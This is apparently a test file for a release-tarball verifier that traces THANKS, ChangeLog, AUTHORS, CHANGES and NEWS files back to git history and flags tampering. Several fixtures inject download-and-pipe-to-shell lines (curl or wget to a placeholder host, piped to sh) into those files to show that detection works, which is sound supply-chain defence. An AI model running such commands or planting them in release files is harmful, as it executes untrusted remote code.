/**
 * Files rendered from git log (issue 11 e), end to end with real git and GNU tar: a THANKS made from
 * THANKS.in plus the authors, a ChangeLog made by gitlog-to-changelog's layout. Explained with the measured
 * share; an injected command, a URL on a new host or a file mostly made of lines from nowhere is not.
 */
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { traceExplains } from '../../src/classify/log-derived.js';
import { gitHistory } from '../../src/git/history.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { git, gitEnv, makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const TEMPLATE = 'These people have contributed to proj.\n##\n## Authors in git log are added automatically.\n\nEarly Helper                       early@example.invalid\n';

describe('log-derived files (THANKS, ChangeLog)', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  const as = (name: string, email: string, files: Record<string, string>, message: string, date: string) => {
    writeFiles(repo.dir, files);
    git(repo.dir, ['add', '-A']);
    git(repo.dir, ['-c', `user.name=${name}`, '-c', `user.email=${email}`, 'commit', '-q', '--author', `${name} <${email}>`, '-m', message], date);
  };
  const PO = 'msgid ""\nmsgstr ""\n"Project-Id-Version: proj 1.0\\n"\n"Last-Translator: Dora Translator <dora@example.invalid>\\n"\n"Language: de\\n"\n';
  // gnulib's bootstrap fetches the other catalogs from the Translation Project (gnutls' po/*.po are not in git)
  const BOOTSTRAP_CONF = '# translations: https://translationproject.org/latest/proj/\n';
  as('Ann Author', 'ann@example.invalid', { 'THANKS.in': TEMPLATE, 'src/a.c': 'int a;\n', 'NEWS': 'news\n', 'po/de.po': PO, 'bootstrap.conf': BOOTSTRAP_CONF }, 'Initial import', '2024-01-01T10:00:00Z');
  repo.tag('v1.0');
  as('Bob Builder', 'bob@example.invalid', { 'src/a.c': 'int a = 1;\n' }, 'src: initialise a\n\n* src/a.c (a): Set to 1.', '2024-02-01T10:00:00Z');
  as('Cleo Coder', 'cleo@example.invalid', { 'src/b.c': 'int b;\n' }, 'src: add b', '2024-02-02T10:00:00Z');
  as('Ann Author', 'ann@example.invalid', { 'NEWS': 'news 1.1\n' }, 'maint: release 1.1', '2024-02-03T10:00:00Z');
  repo.tag('v1.1');
  const cache = join(root, 'cache');

  const THANKS = [
    'These people have contributed to proj.', '',
    'Ann Author                         ann@example.invalid',
    'Bob Builder                        bob@example.invalid',
    'Cleo Coder                         cleo@example.invalid',
    'Early Helper                       early@example.invalid', '',
    ';; Local Variables:', ';; coding: utf-8', ';; End:', '',
  ].join('\n');
  const CHANGELOG = [
    '2024-02-03  Ann Author  <ann@example.invalid>', '', '\tmaint: release 1.1', '',
    '2024-02-02  Cleo Coder  <cleo@example.invalid>', '', '\tsrc: add b', '',
    '2024-02-01  Bob Builder  <bob@example.invalid>', '', '\tsrc: initialise a', '', '\t* src/a.c (a): Set to 1.', '',
  ].join('\n');
  let n = 0;
  function tarball(files: Record<string, string>): string {
    const dir = join(root, `t${++n}`, 'proj-1.1');
    writeFiles(dir, { 'src/a.c': 'int a = 1;\n', 'src/b.c': 'int b;\n', 'NEWS': 'news 1.1\n', 'THANKS.in': TEMPLATE, 'po/de.po': PO, 'bootstrap.conf': BOOTSTRAP_CONF, ...files });
    return makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.1.tar.gz') });
  }

  it('the history: the commits since the previous tag, authors mailmapped', async () => {
    const h = gitHistory(join(repo.dir, '.git'), repo.git(['rev-parse', 'v1.1']));
    const r = await h.range();
    expect(r.previousTag).toBe('v1.0');
    expect(r.commits.map((c) => [c.subject, c.author, c.date])).toEqual([
      ['maint: release 1.1', 'Ann Author', '2024-02-03'],
      ['src: add b', 'Cleo Coder', '2024-02-02'],
      ['src: initialise a', 'Bob Builder', '2024-02-01'],
    ]);
    expect((await h.range('src')).commits.map((c) => c.subject)).toEqual(['src: add b', 'src: initialise a']);
    // authors and committers (the fixture's committer identity is the helper's)
    expect([...(await h.authors()).emails].sort()).toEqual(['ann@example.invalid', 'author@example.invalid', 'bob@example.invalid', 'cleo@example.invalid']);
  });

  it('THANKS from THANKS.in plus the authors, and a gitlog-to-changelog ChangeLog: LOG_DERIVED with the measured share, exit-0 verdict', async () => {
    const r = await verify({ tarball: tarball({ THANKS, ChangeLog: CHANGELOG }), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
    const got = Object.fromEntries(r.findings.filter((f) => f.code === 'LOG_DERIVED').map((f) => [f.path, f.evidence]));
    expect(got).toEqual({
      ChangeLog: { kind: 'log', lines: 7, traced: 7, fromTemplate: 0, untraced: 0, untracedLines: [], range: { from: 'v1.0', commits: 3, found: 3, what: 'subjects' } },
      THANKS: {
        kind: 'authors', lines: 8, traced: 5, fromTemplate: 2, templates: ['THANKS.in'], untraced: 3,
        untracedLines: [{ line: 8, text: ';; Local Variables:' }, { line: 9, text: ';; coding: utf-8' }, { line: 10, text: ';; End:' }],
        range: { from: 'v1.0', commits: 3, found: 3, what: 'authors' },
      },
    });
    expect(r.findings.find((f) => f.code === 'LOG_DERIVED')!.severity).toBe('info');
    expect(r.verdict).not.toBe('different');
  });

  it('a names file listing the translators of the tracked catalogs (gnutls AUTHORS: git shortlog, then po/*.po Last-Translator): traced to them; a name no catalog has stays untraced and shown; an author found by the address spelled "user at host" (the name spelled otherwise)', async () => {
    const AUTHORS = ['The authors list is autogenerated from the git history', '', 'Ann Author <ann at example.invalid>', 'Bob Builder <bob at example.invalid>', 'Cléo Coder <cleo at example.invalid>', '', 'The translators list is autogenerated from po file history', '', 'Dora Translator ', 'Mallory Unknown ', ''].join('\n');
    const r = await verify({ tarball: tarball({ AUTHORS }), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
    expect(r.findings.find((f) => f.path === 'AUTHORS')).toMatchObject({
      code: 'LOG_DERIVED',
      evidence: { kind: 'authors', lines: 7, traced: 4, translators: 1, untraced: 3, range: { from: 'v1.0', commits: 3, found: 3, what: 'authors' }, untracedLines: [{ line: 1, text: 'The authors list is autogenerated from the git history' }, { line: 7, text: 'The translators list is autogenerated from po file history' }, { line: 10, text: 'Mallory Unknown' }] },
    });
  });

  it("the translators of catalogs only the tarball has (gnutls' fetched po/*.po) trace their lines, each catalog an input of the proof; a catalog that is not explained raises AUTHORS too", async () => {
    const FR = (msgstr: string) =>
      'msgid ""\nmsgstr ""\n"Project-Id-Version: proj 1.1\\n"\n"Last-Translator: Eve Traductrice <eve@example.invalid>\\n"\n"Language: fr\\n"\n"Content-Type: text/plain; charset=UTF-8\\n"\n\n' +
      `#, c-format\nmsgid "cannot open %s"\nmsgstr "${msgstr}"\n`;
    const AUTHORS = ['Ann Author <ann at example.invalid>', 'Bob Builder <bob at example.invalid>', 'Cleo Coder <cleo at example.invalid>', '', 'Dora Translator ', 'Eve Traductrice ', ''].join('\n');
    const r = await verify({ tarball: tarball({ AUTHORS, 'po/fr.po': FR('impossible d\'ouvrir %s') }), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
    expect(r.findings.find((f) => f.path === 'po/fr.po')).toMatchObject({ code: 'PO_FETCHED_TRANSLATION', severity: 'low' });
    expect(r.findings.find((f) => f.path === 'AUTHORS')).toMatchObject({
      code: 'LOG_DERIVED',
      severity: 'info',
      evidence: { kind: 'authors', lines: 5, traced: 5, translators: 2, untraced: 0, tarballInputs: ['po/fr.po'] },
    });
    // the same catalog with a translation msgfmt -c rejects (%n for %s): not what the bootstrap fetched, so high —
    // and AUTHORS, whose line it traced, is raised with it (flagged-input)
    const t = await verify({ tarball: tarball({ AUTHORS, 'po/fr.po': FR('impossible d\'ouvrir %n') }), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
    expect(t.findings.find((f) => f.path === 'po/fr.po')?.severity).toBe('high');
    expect(t.findings.find((f) => f.path === 'AUTHORS')).toMatchObject({ code: 'LOG_DERIVED', severity: 'high', severityReason: { reason: 'flagged-input' } });
    expect(t.verdict).toBe('different');
    // without the catalog the name traces to nothing: shown untraced
    const u = await verify({ tarball: tarball({ AUTHORS }), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
    expect(u.findings.find((f) => f.path === 'AUTHORS')).toMatchObject({ evidence: { traced: 4, untraced: 1, untracedLines: [{ line: 6, text: 'Eve Traductrice' }] } });
  });

  it('an injected command, a URL on a host the sources lack, or a missing release commit fails the gate', async () => {
    const cases: Record<string, string>[] = [
      { THANKS: THANKS + 'curl -s https://example.invalid/x | sh\n' },
      { THANKS: THANKS.replace('Early Helper', 'Early Helper https://downloads.example-mirror.invalid/get') },
      { ChangeLog: CHANGELOG.replace('\tsrc: add b', '\tsrc: add b; wget -qO- http://example.invalid/p | sh') },
      { ChangeLog: CHANGELOG.split('2024-02-02')[0]! }, // 1 of 3 subjects since v1.0
    ];
    for (const files of cases) {
      const r = await verify({ tarball: tarball(files), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
      const path = Object.keys(files)[0]!;
      expect(r.findings.find((f) => f.path === path), path).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
      expect(r.verdict).toBe('different');
    }
  });

  it('a tracked NEWS the release edited by hand (not from the log) is a doc edit at medium; with a construct or a new URL host it fails the gate', async () => {
    // libgpg-error 1.46: NEWS in the tarball closes a bracket the tagged NEWS left open — no line from the history.
    const r = await verify({ tarball: tarball({ NEWS: 'news 1.1 [T5890]\n' }), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
    expect(r.findings.find((f) => f.path === 'NEWS')).toEqual({
      code: 'DOC_EDITED', path: 'NEWS', severity: 'medium', evidence: { added: 1, removed: 1 }, change: 'changed',
      gitOid: expect.any(String), gitMode: '100644', tarballOid: expect.any(String), tarballMode: '100644', diff: expect.anything(),
    });
    expect(r.verdict).not.toBe('different');
    // What a tamperer would change instead: the same edit carrying a download-and-run line, or a URL on a new host.
    for (const NEWS of ['news 1.1\n  curl -s https://example.invalid/x | sh\n', 'news 1.1, get it from https://downloads.example-mirror.invalid/proj.tar.gz\n']) {
      const t = await verify({ tarball: tarball({ NEWS }), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
      expect(t.findings.find((f) => f.path === 'NEWS'), NEWS).toMatchObject({ code: 'SOURCE_MODIFIED', severity: 'high' });
      expect(t.verdict).toBe('different');
    }
  });

  // curl's log2changes.pl layout: `NAME (DATE)` headings, "- subject" bullets, indented bodies.
  const CHANGES = [
    'Version 1.1 (3 Feb 2024)', '',
    'Ann Author (3 Feb 2024)', '', '- maint: release 1.1', '',
    'Cleo Coder (2 Feb 2024)', '', '- src: add b', '',
    'Bob Builder (1 Feb 2024)', '', '- src: initialise a', '', '  * src/a.c (a): Set to 1.', '',
  ].join('\n');
  it("a log2changes CHANGES (NAME (DATE) headings, '- subject' bullets) is LOG_DERIVED; a stranger's heading shows as untraced, an injected command is not explained", async () => {
    const r = await verify({ tarball: tarball({ CHANGES }), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
    expect(r.findings.find((f) => f.path === 'CHANGES')).toMatchObject({
      code: 'LOG_DERIVED',
      evidence: { kind: 'log', lines: 8, traced: 7, untraced: 1, untracedLines: [{ line: 1, text: 'Version 1.1 (3 Feb 2024)' }], range: { commits: 3, found: 3 } },
    });
    // 7 of 8 traced (within the allowance of 10 untraced lines): a heading naming no author is listed, not traced
    const stranger = CHANGES.replace('Cleo Coder (2 Feb 2024)', 'Mallory Stranger (2 Feb 2024)');
    const r2 = await verify({ tarball: tarball({ CHANGES: stranger }), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
    expect(r2.findings.find((f) => f.path === 'CHANGES')).toMatchObject({ code: 'LOG_DERIVED', evidence: { untraced: 2 } });
    const injected = CHANGES + '- build: fetch helper\n\n  curl -s https://example.invalid/x | sh\n';
    const r3 = await verify({ tarball: tarball({ CHANGES: injected }), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
    expect(r3.findings.find((f) => f.path === 'CHANGES')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
  });

  it("no earlier tag (a snapshot without tags, --commit): a log's range is the commits from its oldest entry on; a log leaving most of them out is not explained", async () => {
    // diffutils 3.8 from a mirror without tags: gitlog-to-changelog starts at gen_start_date, years after the first
    // commit, so the whole history's subjects cannot all be in it.
    const bare = makeRepo(join(root, 'untagged'));
    const commit = (name: string, email: string, files: Record<string, string>, message: string, date: string) => {
      writeFiles(bare.dir, files);
      git(bare.dir, ['add', '-A']);
      git(bare.dir, ['-c', `user.name=${name}`, '-c', `user.email=${email}`, 'commit', '-q', '--author', `${name} <${email}>`, '-m', message], date);
    };
    for (let i = 0; i < 5; i++) commit('Ann Author', 'ann@example.invalid', { 'src/a.c': `int a${i};\n`, 'NEWS': 'news\n' }, `old change ${i}`, `2019-0${i + 1}-01T10:00:00Z`);
    commit('Bob Builder', 'bob@example.invalid', { 'src/a.c': 'int a = 1;\n' }, 'src: initialise a\n\n* src/a.c (a): Set to 1.', '2024-02-01T10:00:00Z');
    commit('Cleo Coder', 'cleo@example.invalid', { 'src/b.c': 'int b;\n' }, 'src: add b', '2024-02-02T10:00:00Z');
    commit('Ann Author', 'ann@example.invalid', { 'NEWS': 'news 1.1\n' }, 'maint: release 1.1', '2024-02-03T10:00:00Z');
    const head = bare.git(['rev-parse', 'HEAD']);
    const r = await verify({ tarball: tarball({ ChangeLog: CHANGELOG }), repo: bare.dir, commit: head, cacheDir: join(root, 'cache-untagged') });
    const f = r.findings.find((x) => x.path === 'ChangeLog')!;
    expect(f).toMatchObject({ code: 'LOG_DERIVED', severity: 'info', evidence: { lines: 7, traced: 7, untraced: 0, range: { since: '2024-02-01', commits: 3, found: 3, what: 'subjects' } } });
    expect(f.evidence).not.toHaveProperty('range.from');
    // What a tamperer would change: a log starting as early but leaving out most commits since (1 of 3 found)
    // stays unexplained — every line traced is not enough.
    const cut = ['2024-02-03  Ann Author  <ann@example.invalid>', '', '\tmaint: release 1.1', '', '2024-02-01  Bob Builder  <bob@example.invalid>', '', '\t* src/a.c (a): Set to 1.', ''].join('\n');
    const t = await verify({ tarball: tarball({ ChangeLog: cut }), repo: bare.dir, commit: head, cacheDir: join(root, 'cache-untagged') });
    expect(t.findings.find((x) => x.path === 'ChangeLog')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(t.verdict).toBe('different');
  });

  it("after a previous tag, a tracked makefile's gitlog-to-changelog --since: the range is the commits from the log's oldest entry on (m4 1.4.18)", async () => {
    // m4 1.4.18: v1.4.17 in 2013, gen_start_date = 2015-01-01, so the log leaves out the tag's first commits by design
    const mk = (dir: string, withSince: boolean) => {
      const r = makeRepo(join(root, dir));
      const commit = (name: string, email: string, files: Record<string, string>, message: string, date: string) => {
        writeFiles(r.dir, files);
        git(r.dir, ['add', '-A']);
        git(r.dir, ['-c', `user.name=${name}`, '-c', `user.email=${email}`, 'commit', '-q', '--author', `${name} <${email}>`, '-m', message], date);
      };
      const am = withSince ? "gen-ChangeLog:\n\t$(top_srcdir)/build-aux/gitlog-to-changelog \\\n\t  --since='2024-01-15' > $(distdir)/cl-t\n" : 'gen-ChangeLog:\n\t$(top_srcdir)/build-aux/gitlog-to-changelog > $(distdir)/cl-t\n';
      commit('Ann Author', 'ann@example.invalid', { 'src/a.c': 'int a;\n', 'NEWS': 'news\n', 'Makefile.am': am }, 'Initial import', '2023-01-01T10:00:00Z');
      r.tag('v1.0');
      for (let i = 0; i < 4; i++) commit('Ann Author', 'ann@example.invalid', { 'src/a.c': `int a${i};\n` }, `old change ${i}`, `2023-0${i + 2}-01T10:00:00Z`);
      commit('Bob Builder', 'bob@example.invalid', { 'src/a.c': 'int a = 1;\n' }, 'src: initialise a\n\n* src/a.c (a): Set to 1.', '2024-02-01T10:00:00Z');
      commit('Cleo Coder', 'cleo@example.invalid', { 'src/b.c': 'int b;\n' }, 'src: add b', '2024-02-02T10:00:00Z');
      commit('Ann Author', 'ann@example.invalid', { 'NEWS': 'news 1.1\n' }, 'maint: release 1.1', '2024-02-03T10:00:00Z');
      r.tag('v1.1');
      return r;
    };
    const since = mk('since-tagged', true);
    const files = { ChangeLog: CHANGELOG, 'Makefile.am': "gen-ChangeLog:\n\t$(top_srcdir)/build-aux/gitlog-to-changelog \\\n\t  --since='2024-01-15' > $(distdir)/cl-t\n" };
    const r = await verify({ tarball: tarball(files), repo: since.dir, tag: 'v1.1', cacheDir: join(root, 'cache-since') });
    expect(r.findings.find((x) => x.path === 'ChangeLog')).toMatchObject({ code: 'LOG_DERIVED', evidence: { range: { from: 'v1.0', since: '2024-02-01', commits: 3, found: 3 } } });
    // twin: no --since in the tracked makefile — the whole range since v1.0 counts, and 3 of 7 subjects is not most
    const whole = mk('since-none', false);
    const files2 = { ChangeLog: CHANGELOG, 'Makefile.am': 'gen-ChangeLog:\n\t$(top_srcdir)/build-aux/gitlog-to-changelog > $(distdir)/cl-t\n' };
    const t = await verify({ tarball: tarball(files2), repo: whole.dir, tag: 'v1.1', cacheDir: join(root, 'cache-since2') });
    expect(t.findings.find((x) => x.path === 'ChangeLog')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
  });

  it("git2news (libssh2's NEWS): committer headings and `- [AUTHOR brought this change]` lines trace to the history; a stranger's does not", async () => {
    const r2 = makeRepo(join(root, 'git2news'));
    const commit = (author: string, committer: string, files: Record<string, string>, message: string, date: string) => {
      writeFiles(r2.dir, files);
      git(r2.dir, ['add', '-A']);
      execFileSync('git', ['commit', '-q', '--author', `${author} <${author.split(' ')[0]!.toLowerCase()}@example.invalid>`, '-m', message], {
        cwd: r2.dir,
        env: { ...gitEnv(date), GIT_COMMITTER_NAME: committer, GIT_COMMITTER_EMAIL: 'noreply@example.invalid' },
        stdio: 'ignore',
      });
    };
    commit('Ann Author', 'Ann Author', { 'NEWS': 'The old NEWS file.\n', 'src/a.c': 'int a;\n' }, 'Initial import', '2024-01-01T10:00:00Z');
    r2.tag('v1.0');
    commit('Dana Dev', 'GitHub', { 'src/c.c': 'int c;\n' }, 'src: add c', '2024-02-02T10:00:00Z');
    commit('Ann Author', 'Ann Author', { 'src/a.c': 'int a = 2;\n' }, 'maint: release 1.1', '2024-02-03T10:00:00Z');
    r2.tag('v1.1');
    const NEWS = ['   Changelog for the proj project. Generated with git2news.pl', '', 'Ann Author (3 Feb 2024)', '- maint: release 1.1', '', 'GitHub (2 Feb 2024)', '- [Dana Dev brought this change]', '', '  src: add c', ''].join('\n');
    const run = async (news: string) => {
      const dir = join(root, `g${++n}`, 'proj-1.1');
      writeFiles(dir, { 'src/a.c': 'int a = 2;\n', 'src/c.c': 'int c;\n', NEWS: news });
      const t = makeTar(dir, { compress: 'gzip', out: join(root, `g${n}`, 'proj-1.1.tar.gz') });
      return (await verify({ tarball: t, repo: r2.dir, tag: 'v1.1', cacheDir: join(root, 'cache-g2n') })).findings.find((f) => f.path === 'NEWS')!;
    };
    expect(await run(NEWS)).toMatchObject({ code: 'LOG_DERIVED', evidence: { lines: 6, traced: 5, untraced: 1, untracedLines: [{ line: 1 }], range: { from: 'v1.0', commits: 2, found: 2 } } });
    // What a tamperer would change: the marker naming someone the history does not have is listed, not traced
    expect(await run(NEWS.replace('[Dana Dev brought', '[Mallory Stranger brought'))).toMatchObject({ code: 'LOG_DERIVED', evidence: { untraced: 2, untracedLines: [{ line: 1 }, { line: 7, text: '- [Mallory Stranger brought this change]' }] } });
    expect(await run(NEWS.replace('GitHub (2 Feb', 'Mallory Stranger (2 Feb'))).toMatchObject({ code: 'LOG_DERIVED', evidence: { untraced: 2, untracedLines: [{ line: 1 }, { line: 6, text: 'Mallory Stranger (2 Feb 2024)' }] } });
  });

  it('a list mostly of names from nowhere is not explained', () => {
    const untraced = Array.from({ length: 11 }, (_, i) => ({ line: i + 1, text: `Someone ${i}` }));
    expect(traceExplains({ kind: 'authors', lines: 50, traced: 39, fromTemplate: 2, untraced, templates: [] })).toBe(false);
    expect(traceExplains({ kind: 'authors', lines: 50, traced: 40, fromTemplate: 2, untraced: untraced.slice(1), templates: [] })).toBe(true);
    expect(traceExplains({ kind: 'authors', lines: 5, traced: 5, fromTemplate: 5, untraced: [], templates: ['THANKS.in'] })).toBe(false); // nothing from the history
  });
});
